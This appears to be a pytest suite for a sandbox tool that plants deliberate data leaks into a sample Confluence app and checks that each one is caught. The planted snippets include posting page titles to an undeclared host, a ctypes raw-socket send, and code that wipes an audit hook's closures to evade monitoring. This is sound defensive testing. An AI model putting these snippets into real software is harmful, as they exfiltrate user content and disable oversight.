"""Leaky twins of Pulse, deliberately broken: each is BROKEN on its claim alone, with its own line as evidence."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from forgesim.claims.kit import Outcome, Verdict
from forgesim.testing import assert_broken
from forgesim.testing.kit import Forge

AFTER = '    weights, review = await errand.attempt(errand.records.plan(page["spaceId"])'
"""In ``checkPage``, where the page has been read."""

FILE = "src/pulse/resolvers.py"
NOT_PULSES = "rendering_keeps_nothing"


def plant(app: Path, leak: str, *, head: str = "", keep_all: bool = False) -> int:
    """Put ``leak`` into Pulse's ``checkPage`` and, mostly, keep the one scenario that gets there; the leak's line."""
    path = app / FILE
    source = path.read_text()
    assert source.count(AFTER) == 1
    block = "".join(f"    {line}\n" for line in leak.splitlines())
    source = source.replace(AFTER, block + AFTER).replace("T = TypeVar", f"{head}\nT = TypeVar", 1)
    path.write_text(source)
    if not keep_all:
        keep_one_scenario(app)
    marked = next(line for line in leak.splitlines() if "#!" in line)
    return next(n for n, line in enumerate(source.splitlines(), 1) if line.strip() == marked.strip())


def keep_one_scenario(app: Path) -> None:
    trust = (app / "trust.yml").read_text()
    head, scenarios = trust.split("scenarios:\n")
    kept = next(each for each in re.split(r"(?m)^  - name: ", scenarios) if each.startswith("Alice checks a page"))
    (app / "trust.yml").write_text(f"{head}scenarios:\n  - name: {kept}")


def by_claim(verdicts: tuple[Verdict, ...]) -> dict[str, Verdict]:
    return {verdict.claim: verdict for verdict in verdicts}


TWINS = {
    "logs a title": ("log.info(page['title'])  #!", "logs_hold_no_content"),
    "logs who asked": ("log.info(errand.viewer)  #!", "keeps_no_personal_data"),
    "looks at the space while it checks a page": (
        "from forgesim.sdk import api, route\n"
        "where = route('/wiki/api/v2/spaces/{id}/pages', id=page['spaceId'])\n"
        "await api.as_user().request_confluence(where)  #!",
        "reads_only_its_purpose",
    ),
    "counts over http": (
        "from forgesim.sdk import api\n"
        "await api.fetch('http://us.i.posthog.com/capture/', method='POST', json={  #!\n"
        "    'api_key': 'phc_demo', 'event': 'page_checked', 'distinct_id': 'pulse', 'properties': {'count': 1}})",
        "encrypted_in_transit",
    ),
    "stores a page's text": (
        "from forgesim.sdk import kvs\n"
        "await kvs.set(f\"page:{page['id']}:text\", page['body']['storage']['value'])  #!",
        "stores_only_aggregates",
    ),
    "stores it base64 over several keys": (
        "from forgesim.sdk import kvs\n"
        "import base64\n"
        "text = base64.b64encode(page['body']['storage']['value'].encode()).decode()\n"
        "for n in range(0, len(text), 30):\n"
        "    await kvs.set(f'part:{n}', text[n:n + 30])  #!",
        "stores_only_aggregates",
    ),
    "hides a title's length in a declared score": (
        "from forgesim.sdk import kvs\n"
        "await kvs.set('settings', dict.fromkeys(WEIGHTS, sum(map(ord, page['title'])) % 11))  #!",
        "stores_only_aggregates",
    ),
    "posts a title to PostHog": (
        "from forgesim.sdk import api\n"
        "await api.fetch('https://us.i.posthog.com/capture/', method='POST', json={  #!\n"
        "    'api_key': 'phc_demo', 'event': 'page_checked', 'distinct_id': 'pulse',\n"
        "    'properties': {'count': 1, 'title': page['title']}})",
        "sends_only_declared",
    ),
    "puts a title into the path of the declared host": (
        "from forgesim.sdk import api\n"
        "await api.fetch('https://us.i.posthog.com/capture/' + page['title'].replace(' ', '-'), method='POST')  #!",
        "sends_only_declared",
    ),
    "calls a host that nobody declared": (
        "from forgesim.sdk import api\n"
        "await api.fetch('https://collector.example.net/', method='POST', json={'n': 1})  #!",
        "reaches_only_declared",
    ),
    "writes to a page": (
        "from forgesim.sdk import api, route\n"
        "where = route('/wiki/api/v2/pages/{id}', id=page['id'])\n"
        "await api.as_user().request_confluence(where, method='PUT', json={})  #!",
        "only_reads_content",
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize(("leak", "claim"), TWINS.values(), ids=TWINS.keys())
def test_a_leaky_twin_is_broken_on_its_claim_alone(forge: Forge, pulse_copy: Path, leak: str, claim: str) -> None:
    line = plant(pulse_copy, leak)
    broken = assert_broken(forge.prove(pulse_copy, trials=1, plays=0), claim)
    assert f"{FILE}:{line}" in {evidence.at for evidence in broken.evidence}


@pytest.mark.slow
def test_the_honest_app_beside_them_is_green(forge: Forge, pulse_copy: Path) -> None:
    verdicts = forge.prove(pulse_copy, trials=1, plays=0)
    assert {verdict.claim for verdict in verdicts if verdict.outcome is not Outcome.HOLDS} == {NOT_PULSES}
    assert by_claim(verdicts)[NOT_PULSES].outcome is Outcome.NOT_APPLICABLE


@pytest.mark.slow
def test_a_scope_too_many_is_broken_alone(forge: Forge, pulse_copy: Path) -> None:
    manifest = pulse_copy / "manifest.yml"
    scope = "    - read:page:confluence\n"
    manifest.write_text(manifest.read_text().replace(scope, f"{scope}    - read:comment:confluence\n", 1))
    broken = assert_broken(forge.prove(pulse_copy, trials=1, plays=0), "asks_least_scopes")
    assert [evidence.why for evidence in broken.evidence] == ["nothing that the app does needs read:comment:confluence"]


LEAK = "kvs.set(f\"page:{page['id']}:text\", page['body']['storage']['value'])"
NEVER = "page['title'] == 'a title that no site has'"
HIDDEN = {
    "behind a boolean": ("from forgesim.sdk import kvs", f"{NEVER} and await {LEAK}  #!"),
    "in a ternary": ("from forgesim.sdk import kvs", f"await {LEAK} if {NEVER} else None  #!"),
    "under a pragma": ("from forgesim.sdk import kvs", f"if {NEVER}:  # pragma: no cover\n    await {LEAK}  #!"),
    "in a comprehension": ("from forgesim.sdk import kvs", f"[await {LEAK} for _ in (1,) if {NEVER}]  #!"),
    "in an except branch that nothing reaches": (
        "from forgesim.sdk import kvs",
        f"try:\n    len('')\nexcept ZeroDivisionError:\n    await {LEAK}  #!",
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize(("head", "leak"), HIDDEN.values(), ids=HIDDEN.keys())
def test_a_leak_that_no_run_reaches_leaves_the_claim_unproven_and_is_named(
    forge: Forge, pulse_copy: Path, head: str, leak: str
) -> None:
    line = plant(pulse_copy, leak, head=head, keep_all=True)
    verdict = by_claim(forge.prove(pulse_copy, trials=1, plays=0))["stores_only_aggregates"]
    assert verdict.outcome is Outcome.UNPROVEN
    named = {int(evidence.at.split(":")[1]) for evidence in verdict.evidence if evidence.at and FILE in evidence.at}
    assert named & {line, line - 1}


@pytest.mark.slow
def test_a_leak_in_an_except_branch_that_a_failure_reaches_is_broken(forge: Forge, pulse_copy: Path) -> None:
    leak = (
        "from forgesim.sdk import ForgeKvsAPIError\n"
        "try:\n"
        "    await kvs.get('settings')\n"
        "except ForgeKvsAPIError:\n"
        f"    await {LEAK}  #!"
    )
    line = plant(pulse_copy, leak, head="from forgesim.sdk import kvs")
    broken = assert_broken(forge.prove(pulse_copy, trials=1, plays=0), "stores_only_aggregates")
    assert f"{FILE}:{line}" in {evidence.at for evidence in broken.evidence}


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A server on 127.0.0.1 and what reached it."""
    heard: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                peer, _ = server.accept()
            except OSError:
                return
            heard.append(peer.recv(100))
            peer.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], heard
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    thread.join()


def raw_socket(port: int) -> str:
    return (
        "import ctypes, struct\n"
        "libc = ctypes.CDLL(None)\n"
        "fd = libc.socket(2, 1, 0)  #!\n"
        f"address = struct.pack('=HHI8x', 2, {socket.htons(port)}, {socket.htonl(0x7F000001)})\n"
        "address = struct.pack('=H', 2) + struct.pack('>H', %d) + bytes([127, 0, 0, 1]) + bytes(8)\n"
        % port
        + "libc.connect(fd, address, 16)\n"
        "libc.send(fd, page['title'].encode(), len(page['title']), 0)"
    )


def disarmed(port: int) -> str:
    """The same, after the audit hook's frame has been made to forget everything."""
    return (
        "import gc, sys\n"
        "for hook in [o for o in gc.get_objects() if getattr(o, '__module__', '') == 'forgesim.guest.audit']:\n"
        "    for cell in getattr(hook, '__closure__', None) or ():\n"
        "        try:\n"
        "            cell.cell_contents = {}\n"
        "        except Exception:\n"
        "            pass\n" + raw_socket(port)
    )


@pytest.mark.slow
@pytest.mark.parametrize("attack", [raw_socket, disarmed])
def test_a_raw_socket_reaches_its_listener_only_without_the_walls(
    tmp_path: Path, pulse_copy: Path, forge: Forge, listener: tuple[int, list[bytes]], attack: object
) -> None:
    port, heard = listener
    assert callable(attack)
    plant(pulse_copy, attack(port))
    control = Forge(base=tmp_path, allow_unconfined=True)
    control.install(pulse_copy, control.site("demo", seed=1)).invoke("checkPage", {"pageId": "$page"})
    control.close()
    assert len(heard) == 1, "the control run should have reached the listener"
    broken = assert_broken(forge.prove(pulse_copy, trials=1, plays=0), "reaches_only_declared")
    assert len(heard) == 1
    assert any(word in evidence.why for evidence in broken.evidence for word in ("socket", "native"))
    named = any(FILE in (evidence.at or "") for evidence in broken.evidence)
    assert named or attack is disarmed, "the kernel knows no lines; the audit hook does while it lives"
